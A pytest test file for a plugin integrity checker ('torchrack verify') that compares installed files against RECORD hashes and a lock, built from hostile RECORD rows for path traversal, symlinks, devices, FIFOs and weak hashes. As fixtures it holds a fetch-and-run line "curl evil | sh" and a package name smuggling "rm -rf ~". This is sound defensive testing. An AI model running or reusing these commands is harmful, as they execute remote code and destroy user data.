"""`torchrack verify`: installed plugin files are checked against RECORD and against a lock.

Besides real installs, hostile and careless RECORDs (built in a temporary folder) must each be
reported, never pass, never crash and never block: unhashed files, paths out of the distribution's
folder (``..``, absolute, symlinks), devices and FIFOs, directories, weak or unknown hashes,
RECORDs that are not UTF-8, not CSV, too large or not regular files. Honest RECORDs with any
strong hashlib algorithm verify.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from torchrack.integrity import MISMATCH, UNVERIFIABLE, VERIFIED, VerifyResult, _record, verify_dist

from ._plugins import DIGITS, ROOT, torchrack, write_dist


@pytest.fixture(scope="module")
def installed_heads(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """torchrack-heads installed from its folder as a regular (non-editable) wheel install."""
    site = tmp_path_factory.mktemp("site")
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-build-isolation",
         "--target", str(site), str(ROOT / "plugins" / "torchrack-heads")],
        check=True, capture_output=True,
    )
    return site


@pytest.mark.slow
def test_an_untouched_install_verifies(installed_heads: Path, tmp_path: Path) -> None:
    proc = torchrack("verify", "--dist", "torchrack-heads", "--json", cwd=tmp_path, site=installed_heads)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    [entry] = json.loads(proc.stdout)["distributions"]
    assert entry["status"] == "verified" and entry["checked_files"] > 3


@pytest.mark.slow
def test_a_changed_file_fails_verify_naming_it(installed_heads: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    subprocess.run(["cp", "-a", str(installed_heads), str(site)], check=True)
    target = site / "torchrack_heads" / "linear.py"
    target.write_text(target.read_text() + "\n# tampered\n")
    (site / "torchrack_heads" / "extra.py").write_text("print('hi')\n")
    proc = torchrack("verify", "--dist", "torchrack-heads", cwd=tmp_path, site=site)
    assert proc.returncode == 1
    assert "modified: torchrack_heads/linear.py" in proc.stdout
    assert "unexpected: torchrack_heads/extra.py" in proc.stdout
    (site / "torchrack_heads" / "cosine.py").unlink()
    proc = torchrack("verify", "--dist", "torchrack-heads", cwd=tmp_path, site=site)
    assert "missing: torchrack_heads/cosine.py" in proc.stdout


@pytest.mark.slow
def test_editable_installs_are_unverifiable_not_passing(tmp_path: Path) -> None:
    proc = torchrack("verify", "--dist", "torchrack-losses", "--json", cwd=tmp_path)
    [entry] = json.loads(proc.stdout)["distributions"]
    assert entry["status"] == "unverifiable" and "editable" in entry["note"]


@pytest.mark.slow
def test_verify_against_a_lock_reports_changed_component_files(installed_heads: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    subprocess.run(["cp", "-a", str(installed_heads), str(site)], check=True)
    lock = tmp_path / "exp.lock"
    assert torchrack("lock", str(DIGITS), "-o", str(lock), cwd=tmp_path, site=site).returncode == 0
    ok = torchrack("verify", "--dist", "torchrack-heads", "--lock", str(lock), cwd=tmp_path, site=site)
    assert ok.returncode == 0, ok.stdout
    # Re-installing a modified release keeps RECORD consistent, but no longer matches the lock.
    target = site / "torchrack_heads" / "linear.py"
    target.write_text(target.read_text() + "\n# a different release\n")
    proc = torchrack("verify", "--dist", "torchrack-heads", "--lock", str(lock), cwd=tmp_path, site=site)
    assert proc.returncode == 1
    assert "model.head (head:linear): files_sha256 locked" in proc.stdout


# --- hostile and careless RECORDs, in process -------------------------------------------------

DIST = "acme-1.0.dist-info"


def digest(data: bytes, algorithm: str = "sha256", *, pad: bool = False) -> str:
    raw = base64.urlsafe_b64encode(hashlib.new(algorithm, data).digest()).decode()
    return f"{algorithm}={raw if pad else raw.rstrip('=')}"


def row(path: str, data: bytes, algorithm: str = "sha256") -> str:
    return f"{path},{digest(data, algorithm)},{len(data)}\n"


class Dist:
    """``site/acme-1.0.dist-info`` with an honest RECORD for ``site/acme/``; cases add rows."""

    def __init__(self, tmp: Path) -> None:
        self.tmp = tmp
        self.site = tmp / "site"
        self.info = self.site / DIST
        self.info.mkdir(parents=True)
        (self.site / "acme").mkdir()
        self.rows: list[str] = []
        self.add(f"{DIST}/METADATA", b"Metadata-Version: 2.1\nName: acme\nVersion: 1.0\n")
        self.add("acme/__init__.py", b"")
        self.add("acme/core.py", b"VALUE = 1\n")
        self.rows.append(f"{DIST}/RECORD,,\n")

    def add(self, rel: str, data: bytes, algorithm: str = "sha256", *, hashed: bool = True) -> Path:
        path = self.site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.rows.append(row(rel, data, algorithm) if hashed else f"{rel},,\n")
        return path

    def outside(self, name: str = "secret.txt", data: bytes = b"root:x:0:0\n") -> Path:
        """A file next to the site (outside the distribution's folder)."""
        path = self.tmp / name
        path.write_bytes(data)
        return path

    def record(self, text: str | bytes | None = None) -> Path:
        body = "".join(self.rows) if text is None else text
        (self.info / "RECORD").write_bytes(body.encode() if isinstance(body, str) else body)
        return self.info

    def verify(self, text: str | bytes | None = None) -> VerifyResult:
        return verify_dist("acme", "1.0", self.record(text))


def _unhashed_changed_py(d: Dist) -> str:
    d.add("acme/loader.py", b"import os; os.system('curl evil | sh')\n", hashed=False)
    return "acme/loader.py"


def _unhashed_data(d: Dist) -> str:
    d.add("acme/torchrack-manifest.json", b"{}", hashed=False)
    return "acme/torchrack-manifest.json"


def _unhashed_other_record(d: Dist) -> str:
    d.add("acme/RECORD", b"not the distribution's RECORD", hashed=False)  # only its own may be unhashed
    return "acme/RECORD"


def _unhashed_pyc_name_only_in_folder(d: Dist) -> str:
    d.add("acme/pyc_tools.py", b"x = 1\n", hashed=False)
    return "acme/pyc_tools.py"


def _dotdot_regular(d: Dist) -> str:
    secret = d.outside()
    d.rows.append(row("../secret.txt", secret.read_bytes()))  # the right hash: old code said verified
    return "../secret.txt"


def _dotdot_deep(d: Dist) -> str:
    rel = "../" * 40 + "etc/passwd"
    d.rows.append(f"{rel},{digest(b'x')},1\n")
    return rel


def _absolute_regular(d: Dist) -> str:
    secret = d.outside()
    d.rows.append(row(str(secret), secret.read_bytes()))
    return str(secret)


def _absolute_root(d: Dist) -> str:
    d.rows.append(f"/,{digest(b'')},0\n")
    return "/"


def _symlink_out(d: Dist) -> str:
    secret = d.outside()
    (d.site / "acme" / "linked.py").symlink_to(secret)
    d.rows.append(row("acme/linked.py", secret.read_bytes()))
    return "acme/linked.py"


def _symlinked_folder_out(d: Dist) -> str:
    folder = d.tmp / "elsewhere"
    folder.mkdir()
    (folder / "mod.py").write_bytes(b"x = 1\n")
    (d.site / "acme" / "sub").symlink_to(folder, target_is_directory=True)
    d.rows.append(row("acme/sub/mod.py", b"x = 1\n"))
    return "acme/sub/mod.py"


def _dev_zero(d: Dist) -> str:
    d.rows.append(f"/dev/zero,{digest(b'')},0\n")
    return "/dev/zero"


def _dev_zero_relative(d: Dist) -> str:
    rel = "../" * 40 + "dev/zero"
    d.rows.append(f"{rel},{digest(b'')},\n")
    return rel


def _fifo_outside(d: Dist) -> str:
    fifo = d.tmp / "pipe"
    os.mkfifo(fifo)
    d.rows.append(f"../pipe,{digest(b'')},0\n")
    return "../pipe"


def _fifo_inside(d: Dist) -> str:
    os.mkfifo(d.site / "acme" / "pipe.py")
    d.rows.append(f"acme/pipe.py,{digest(b'')},0\n")
    return "acme/pipe.py"


def _fifo_inside_unhashed(d: Dist) -> str:
    os.mkfifo(d.site / "acme" / "pipe2.py")
    d.rows.append("acme/pipe2.py,,\n")
    return "acme/pipe2.py"


def _symlink_to_dev_zero(d: Dist) -> str:
    (d.site / "acme" / "zero.py").symlink_to("/dev/zero")
    d.rows.append(f"acme/zero.py,{digest(b'')},0\n")
    return "acme/zero.py"


def _directory(d: Dist) -> str:
    d.rows.append(f"acme,{digest(b'')},0\n")
    return "acme"


def _directory_unhashed(d: Dist) -> str:
    (d.site / "acme" / "data").mkdir()
    d.rows.append("acme/data/,,\n")
    return "acme/data/"


def _symlink_loop(d: Dist) -> str:
    (d.site / "acme" / "loop.py").symlink_to("loop.py")
    d.rows.append(f"acme/loop.py,{digest(b'')},0\n")
    return "acme/loop.py"


def _weak(algorithm: str) -> Callable[[Dist], str]:
    def case(d: Dist) -> str:
        d.add("acme/weak.py", b"x = 2\n", algorithm)
        return "acme/weak.py"
    return case


def _size_only(d: Dist) -> str:
    path = d.add("acme/sized.py", b"x = 3\n")
    path.write_bytes(b"x = 3\n# appended\n")
    return "acme/sized.py"


def _same_size_changed(d: Dist) -> str:
    path = d.add("acme/same.py", b"x = 3\n")
    path.write_bytes(b"x = 4\n")
    return "acme/same.py"


def _modified_unlisted_size(d: Dist) -> str:
    path = d.add("acme/nosize.py", b"x = 3\n")
    d.rows[-1] = d.rows[-1].rsplit(",", 1)[0] + ",\n"
    path.write_bytes(b"x = 5\n")
    return "acme/nosize.py"


def _problem(text: str, needle: str) -> Callable[[Dist], str]:
    def case(d: Dist) -> str:
        d.rows.append(text)
        return needle
    return case


def _forged_editable(d: Dist) -> str:
    """A release claiming to be editable (so that it would be skipped), with a changed file."""
    (d.info / "direct_url.json").write_text('{"url": "file:///x", "dir_info": {"editable": true}}')
    path = d.add("acme/forged.py", b"x = 1\n")
    path.write_bytes(b"x = 666\n")
    return "acme/forged.py"


#: (id, case, the result's list that must name what the case returns)
HOSTILE_ROWS: list[tuple[str, Callable[[Dist], str], str]] = [
    ("unhashed-changed-py", _unhashed_changed_py, "unhashed"),
    ("unhashed-data-file", _unhashed_data, "unhashed"),
    ("unhashed-foreign-RECORD", _unhashed_other_record, "unhashed"),
    ("unhashed-py-named-pyc", _unhashed_pyc_name_only_in_folder, "unhashed"),
    ("dotdot-right-hash", _dotdot_regular, "outside"),
    ("dotdot-etc-passwd", _dotdot_deep, "outside"),
    ("absolute-right-hash", _absolute_regular, "outside"),
    ("absolute-root", _absolute_root, "outside"),
    ("symlink-out", _symlink_out, "outside"),
    ("symlinked-folder-out", _symlinked_folder_out, "outside"),
    ("dev-zero", _dev_zero, "outside"),
    ("dev-zero-relative", _dev_zero_relative, "outside"),
    ("fifo-outside", _fifo_outside, "outside"),
    ("fifo-inside", _fifo_inside, "unreadable"),
    ("fifo-inside-unhashed", _fifo_inside_unhashed, "unreadable"),
    ("symlink-to-dev-zero", _symlink_to_dev_zero, "outside"),
    ("directory", _directory, "unreadable"),
    ("directory-unhashed", _directory_unhashed, "unreadable"),
    ("symlink-loop", _symlink_loop, "unreadable"),
    ("weak-md5", _weak("md5"), "weak"),
    ("weak-sha1", _weak("sha1"), "weak"),
    ("weak-sha224", _weak("sha224"), "weak"),
    ("weak-sha3_224", _weak("sha3_224"), "weak"),
    ("size-differs", _size_only, "modified"),
    ("same-size-changed", _same_size_changed, "modified"),
    ("no-size-changed", _modified_unlisted_size, "modified"),
    ("unknown-algorithm", _problem(f"acme/core.py,sha999={'A' * 43},10\n", "sha999"), "problems"),
    ("no-algorithm", _problem(f"acme/core.py,{'A' * 43},10\n", "acme/core.py"), "problems"),
    ("shake-no-fixed-size", _problem(f"acme/core.py,shake_256={'A' * 43},10\n", "shake_256"), "problems"),
    ("digest-not-base64", _problem("acme/core.py,sha256=!!!notbase64!!!,10\n", "acme/core.py"), "problems"),
    ("digest-wrong-length", _problem("acme/core.py,sha256=AAAA,10\n", "32 bytes"), "problems"),
    ("nul-in-path", _problem(f"acme/\0core.py,{digest(b'')},0\n", "NUL"), "problems"),
    ("too-many-fields", _problem(f"acme/core.py,{digest(b'VALUE = 1')},10,extra\n", "3 fields"), "problems"),
    ("row-without-path", _problem(f",{digest(b'')},0\n", "without a path"), "problems"),
    ("forged-editable", _forged_editable, "modified"),
]


@pytest.mark.timeout(30, method="signal")
@pytest.mark.parametrize(("case", "field"), [(c, f) for _, c, f in HOSTILE_ROWS],
                         ids=[i for i, _, _ in HOSTILE_ROWS])
def test_a_hostile_record_row_is_reported_never_verified(tmp_path: Path, case: Callable[[Dist], str],
                                                         field: str) -> None:
    d = Dist(tmp_path)
    needle = case(d)
    result = d.verify()
    assert result.status == MISMATCH, result.to_json()
    found = getattr(result, field)
    assert any(needle in item for item in found), (field, result.to_json())
    if field == "weak":
        assert not result.modified, "a weak hash is refused, not called tampering"
    json.dumps(result.to_json(), allow_nan=False)  # strict JSON


@pytest.mark.timeout(30, method="signal")
def test_outside_paths_are_never_opened(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    d = Dist(tmp_path)
    for case in (_dotdot_regular, _absolute_regular, _symlink_out, _dev_zero, _fifo_outside):
        case(d)
    opened: list[str] = []
    real_open = os.open

    def spy(path: str, *args: int) -> int:
        opened.append(os.path.realpath(path))
        return real_open(path, *args)

    monkeypatch.setattr(_record.os, "open", spy)
    result = d.verify()
    root = os.path.realpath(d.site)
    assert all(p.startswith(root + os.sep) for p in opened), opened
    assert len(result.outside) == 5 and result.status == MISMATCH


#: (id, RECORD bytes, what the problem says)
BAD_RECORDS: list[tuple[str, bytes, str]] = [
    ("latin-1", "acme/caf\xe9.py,,\n".encode("latin-1"), "not UTF-8"),
    ("utf-16", "acme/core.py,,\n".encode("utf-16"), "not UTF-8"),
    ("binary", bytes(range(256)) * 4, "not UTF-8"),
    ("huge-field", b"acme/" + b"x" * 200_000 + b".py,,\n", "not CSV"),
    ("unterminated-quote-huge", b'"' + b"a" * 200_000, "not CSV"),
    ("empty", b"", "lists no file"),
    ("only-blank-lines", b"\n\n\r\n", "lists no file"),
]


@pytest.mark.timeout(30, method="signal")
@pytest.mark.parametrize(("raw", "expected"), [(r, e) for _, r, e in BAD_RECORDS], ids=[i for i, _, _ in BAD_RECORDS])
def test_an_unreadable_record_is_a_problem_not_a_crash(tmp_path: Path, raw: bytes, expected: str) -> None:
    result = Dist(tmp_path).verify(raw)
    assert result.status == MISMATCH
    assert any(expected in p and "RECORD" in p and "reinstall" in p for p in result.problems), result.problems


@pytest.mark.timeout(30, method="signal")
def test_a_record_over_the_cap_is_not_read(tmp_path: Path) -> None:
    d = Dist(tmp_path)
    body = "".join(d.rows).encode()
    result = d.verify(body + b"#" * (_record.MAX_RECORD_BYTES + 1 - len(body)) + b"\n")
    assert result.status == MISMATCH and any("larger than" in p for p in result.problems)
    assert result.checked == 0


@pytest.mark.timeout(30, method="signal")
@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory", "dangling"])
def test_record_that_is_not_a_regular_file(tmp_path: Path, kind: str) -> None:
    d = Dist(tmp_path)
    record = d.info / "RECORD"
    if kind == "fifo":
        os.mkfifo(record)
    elif kind == "dev-zero":
        record.symlink_to("/dev/zero")
    elif kind == "directory":
        record.mkdir()
    else:
        record.symlink_to(tmp_path / "nowhere")
    result = verify_dist("acme", "1.0", d.info)
    if kind == "dangling":
        assert result.status == UNVERIFIABLE and "no RECORD" in result.note
    else:
        assert result.status == MISMATCH and any("not a regular file" in p for p in result.problems), result


@pytest.mark.timeout(30, method="signal")
@pytest.mark.parametrize("text", ["[]", "null", '{"dir_info": []}', '{"dir_info": {"editable": "yes"}}',
                                  "[" * 100_000, "\udcff", "fifo"])
def test_a_bad_direct_url_json_is_no_editable_claim(tmp_path: Path, text: str) -> None:
    d = Dist(tmp_path)
    if text == "fifo":
        os.mkfifo(d.info / "direct_url.json")
    else:
        (d.info / "direct_url.json").write_bytes(text.encode("utf-8", "surrogateescape"))
    assert d.verify().status == VERIFIED


@pytest.mark.parametrize("algorithm", ["sha256", "sha384", "sha512", "sha3_256", "sha3_384", "sha3_512",
                                       "blake2b", "blake2s", "sha512_256"])
def test_an_honest_record_with_any_strong_hash_verifies(tmp_path: Path, algorithm: str) -> None:
    if algorithm not in hashlib.algorithms_available:
        pytest.skip(f"{algorithm} is not available here")
    d = Dist(tmp_path)
    d.add("acme/strong.py", b"y = 2\n", algorithm)
    d.rows.append(f"acme/padded.py,{digest(b'z', algorithm, pad=True)},1\n")
    (d.site / "acme" / "padded.py").write_bytes(b"z")
    result = d.verify()
    assert result.status == VERIFIED, result.to_json()
    assert result.checked == 5 and not result.modified


def test_record_itself_and_compiled_files_may_lack_a_hash(tmp_path: Path) -> None:
    d = Dist(tmp_path)
    d.add("acme/__pycache__/core.cpython-311.pyc", b"\x00compiled", hashed=False)
    d.add("acme/legacy.pyc", b"\x00compiled", hashed=False)
    d.rows.append("acme/__pycache__/gone.cpython-311.pyc,,\n")  # listed, since removed: fine
    (d.site / "acme" / "inner").mkdir()
    (d.site / "acme" / "inner" / "target.py").write_bytes(b"t = 1\n")
    (d.site / "acme" / "alias.py").symlink_to("inner/target.py")  # a symlink that stays inside
    d.rows += [row("acme/alias.py", b"t = 1\n"), row("acme/inner/target.py", b"t = 1\n")]
    result = d.verify()
    assert result.status == VERIFIED, result.to_json()
    assert not result.unhashed and not result.unexpected


def test_scripts_installed_into_the_environment_are_reported_not_failed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    d = Dist(tmp_path)
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "acme-tool").write_text("#!/bin/sh\n")
    d.rows.append(row("../bin/acme-tool", b"#!/bin/sh\n"))
    monkeypatch.setattr(_record, "_scheme_dirs", lambda root: [os.path.realpath(tmp_path / "bin")])
    result = d.verify()
    assert result.status == VERIFIED and result.not_checked == ["../bin/acme-tool"]


def test_the_plugins_own_packages_are_searched_for_unexpected_files(tmp_path: Path) -> None:
    d = Dist(tmp_path)
    (d.site / "acme_extra").mkdir()
    (d.site / "acme_extra" / "planted.py").write_text("x = 1\n")
    d.rows.append(f"{DIST}/entry_points.txt,,\n")
    d.rows.pop()  # RECORD does not mention acme_extra at all
    info = d.record()
    assert verify_dist("acme", "1.0", info).status == VERIFIED
    result = verify_dist("acme", "1.0", info, packages=["acme", "acme_extra", "..", "/etc"])
    assert result.status == MISMATCH and result.unexpected == ["acme_extra/planted.py"]


def test_a_folder_nested_deeper_than_the_recursion_limit_is_searched(tmp_path: Path) -> None:
    d = Dist(tmp_path)
    folders = [d.site / "acme" / "/".join(["d"] * n) for n in range(1, max(1500, sys.getrecursionlimit() + 200))]
    try:
        for folder in folders:
            folder.mkdir()
        (folders[-1] / "planted.py").write_text("x = 1\n")
        result = d.verify()
        assert result.status == MISMATCH and len(result.unexpected) == 1
        assert result.unexpected[0].endswith("/d/planted.py")
    finally:  # bottom up: a recursive rmtree would hit the limit too
        (folders[-1] / "planted.py").unlink(missing_ok=True)
        for folder in reversed(folders):
            if folder.exists():
                folder.rmdir()


def test_an_honest_editable_install_is_unverifiable_and_a_missing_location_too(tmp_path: Path) -> None:
    d = Dist(tmp_path)
    d.add(f"{DIST}/direct_url.json", b'{"url": "file:///w", "dir_info": {"editable": true}}')
    result = d.verify()
    assert result.status == UNVERIFIABLE and "editable" in result.note
    assert verify_dist("acme", "1.0", "").status == UNVERIFIABLE


def test_the_fix_never_quotes_a_hostile_name_into_a_command(tmp_path: Path) -> None:
    d = Dist(tmp_path)
    _unhashed_changed_py(d)
    result = verify_dist("x'; rm -rf ~; '", "1.0", d.record())
    assert result.status == MISMATCH and "rm -rf" not in result.note
    assert "pip install --force-reinstall --no-deps 'acme==1.0'" in d.verify().note


# --- properties --------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def prop_dist(tmp_path_factory: pytest.TempPathFactory) -> Dist:
    d = Dist(tmp_path_factory.mktemp("prop"))
    (d.site / "piped").mkdir()
    os.mkfifo(d.site / "piped" / "pipe")
    os.mkfifo(d.tmp / "outside-pipe")
    d.outside()
    return d


@pytest.mark.timeout(120, method="signal")
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(raw=st.binary(max_size=400))
def test_any_bytes_as_record_never_crash_or_block(prop_dist: Dist, raw: bytes) -> None:
    result = prop_dist.verify(raw)
    assert result.status in (VERIFIED, MISMATCH)
    json.dumps(result.to_json(), allow_nan=False)


GOOD = b"VALUE = 1\n"
#: Paths a row may name: only acme/core.py (with a strong, right hash) is verifiable.
PATHS = ["acme/core.py", "../secret.txt", "/dev/zero", "../outside-pipe", "piped/pipe", "acme", "acme/nope.py",
         "../../../../../../../etc/passwd", "acme/../acme/core.py", "/", "./acme/core.py"]
HASHES = [digest(GOOD), digest(GOOD, "sha512"), digest(GOOD, "blake2b"), digest(GOOD, "md5"),
          digest(GOOD, "sha1"), "", "sha256=", "sha256=%%%", "md5=", digest(b"other")]


@pytest.mark.timeout(120, method="signal")
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(st.sampled_from(PATHS), st.sampled_from(HASHES), st.sampled_from(["", "10", "3"])),
                     min_size=1, max_size=6))
def test_a_record_verifies_only_when_every_row_is_provably_intact(prop_dist: Dist,
                                                                   rows: list[tuple[str, str, str]]) -> None:
    intact = [os.path.normpath(p) == "acme/core.py" and h in HASHES[:3] and s in ("", "10")
              for p, h, s in rows]
    text = "".join(prop_dist.rows[:2]) + "".join(f"{p},{h},{s}\n" for p, h, s in rows)
    result = prop_dist.verify(text)
    assert (result.status == VERIFIED) == all(intact), (rows, result.to_json())


# --- the command line --------------------------------------------------------------------------

def cli(*args: str, site: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    """``python -m torchrack ARGS`` with ``site`` first on the path (an outer PYTHONPATH kept)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("TORCHRACK_")}
    env["PYTHONPATH"] = os.pathsep.join(p for p in (str(site), os.environ.get("PYTHONPATH", "")) if p)
    env["TORCHRACK_CACHE_DIR"] = str(cwd / ".cache")
    return subprocess.run([sys.executable, "-m", "torchrack", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=60)


def plugin_site(tmp_path: Path) -> tuple[Path, Path]:
    """A plugin distribution ``acme-hostile`` with an honest, fully hashed RECORD."""
    site = tmp_path / "site"
    pkg = write_dist(site, "acme-hostile", heads={"probe": "Head"})
    info = site / "acme_hostile-1.0.dist-info"
    rows = [row(p.relative_to(site).as_posix(), p.read_bytes(), "sha512")
            for p in sorted([*pkg.iterdir(), *info.iterdir()]) if p.name != "RECORD"]
    (info / "RECORD").write_text("".join(rows) + f"{info.name}/RECORD,,\n")
    return site, info


def test_cli_an_honest_sha512_record_passes(tmp_path: Path) -> None:
    site, _ = plugin_site(tmp_path)
    proc = cli("verify", "--dist", "acme-hostile", "--json", site=site, cwd=tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    [entry] = json.loads(proc.stdout)["distributions"]
    assert entry["status"] == "verified" and entry["checked_files"] == 4 and entry["modified"] == []


def test_cli_hostile_record_is_reported_in_strict_json_and_text_fast(tmp_path: Path) -> None:
    site, info = plugin_site(tmp_path)
    (tmp_path / "secret.txt").write_text("root:x:0:0\n")
    os.mkfifo(site / "acme_hostile" / "pipe")
    (site / "acme_hostile" / "__init__.py").write_text("import os  # changed, and its row unhashed\n")
    rows = [r for r in (info / "RECORD").read_text().splitlines(keepends=True)
            if not r.startswith("acme_hostile/__init__.py,")]
    rows += ["acme_hostile/__init__.py,,\n", row("../secret.txt", b"root:x:0:0\n"), f"/dev/zero,{digest(b'')},0\n",
             f"acme_hostile/pipe,{digest(b'')},0\n", f"acme_hostile,{digest(b'')},0\n",
             row("acme_hostile/torchrack-manifest.json",
                 (site / "acme_hostile" / "torchrack-manifest.json").read_bytes(), "md5")]
    (info / "RECORD").write_text("".join(rows))
    proc = cli("verify", "--dist", "acme-hostile", "--json", site=site, cwd=tmp_path)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    data = json.loads(proc.stdout, parse_constant=lambda c: pytest.fail(f"non-strict JSON {c}"))
    assert data["passed"] is False
    [entry] = data["distributions"]
    assert entry["status"] == "mismatch"
    assert entry["unhashed"] == ["acme_hostile/__init__.py"]
    assert entry["outside"] == ["../secret.txt", "/dev/zero"]
    assert sorted(entry["unreadable"]) == ["acme_hostile", "acme_hostile/pipe"]
    assert entry["weak"] == ["acme_hostile/torchrack-manifest.json"] and entry["modified"] == []
    text = cli("verify", "--dist", "acme-hostile", site=site, cwd=tmp_path)
    assert text.returncode == 1
    out = text.stdout
    assert "unhashed: acme_hostile/__init__.py (RECORD lists it without a hash" in out
    assert f"outside: ../secret.txt (resolves outside {site}: not read, not verified)" in out
    assert "weak hash: acme_hostile/torchrack-manifest.json" in out
    assert "unreadable: acme_hostile/pipe" in out and "FAILED" in out
    assert "internal error" not in text.stderr and "Traceback" not in text.stderr


def test_cli_a_non_utf8_record_is_one_distributions_problem(tmp_path: Path) -> None:
    site, info = plugin_site(tmp_path)
    (info / "RECORD").write_bytes(b"\xff\xfe\x00garbage,,\n")
    proc = cli("verify", "--dist", "acme-hostile", site=site, cwd=tmp_path)
    assert proc.returncode == 1 and "internal error" not in proc.stderr, proc.stderr
    assert "problem: " in proc.stdout and "RECORD is not UTF-8 text (byte 0xff at offset 0)" in proc.stdout
